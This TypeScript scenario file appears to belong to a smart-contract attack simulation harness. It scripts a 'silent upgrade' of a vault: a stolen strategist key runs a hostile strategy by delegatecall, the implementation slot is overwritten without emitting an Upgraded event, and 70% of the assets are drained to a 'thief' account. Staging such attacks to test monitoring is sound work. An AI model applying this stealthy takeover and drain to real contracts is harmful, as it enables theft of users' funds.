import { encodeFunctionData } from 'viem'
import { readAmount, send } from '../send.ts'
import { type Attack, startAttack } from './attack.ts'

export const silentUpgrade: Attack = {
  name: 'silent-upgrade',
  title: 'Upgrade of the vault without an event',
  story:
    "With the strategist's stolen key the vault runs a hostile library by delegatecall, which writes the implementation slot itself: no event `Upgraded` is sent, and only who reads the slot can know. Then the new implementation hands over seven tenths of the assets.",

  async run(world) {
    const { client, protocol } = world
    const { dusd, vault } = protocol.contracts
    const { strategist, thief } = protocol.accounts
    const attack = startAttack(world)
    const hostile = await attack.create('HostileVault', thief)
    const strategy = await attack.create('HostileStrategy', thief)

    const rebalance = encodeFunctionData({
      abi: strategy.abi,
      functionName: 'rebalance',
      args: [hostile.address],
    })
    const changed = await attack.step(
      send(client, vault, 'runStrategy', [strategy.address, rebalance], { from: strategist }),
    )
    if (changed) {
      await attack.pause()
      const inVault = await readAmount(client, dusd, 'balanceOf', [vault.address])
      const opened = { ...vault, abi: hostile.abi }
      await attack.step(send(client, opened, 'migrate', [(inVault * 7n) / 10n], { from: thief }))
    }
    return { transactions: attack.transactions }
  },
}
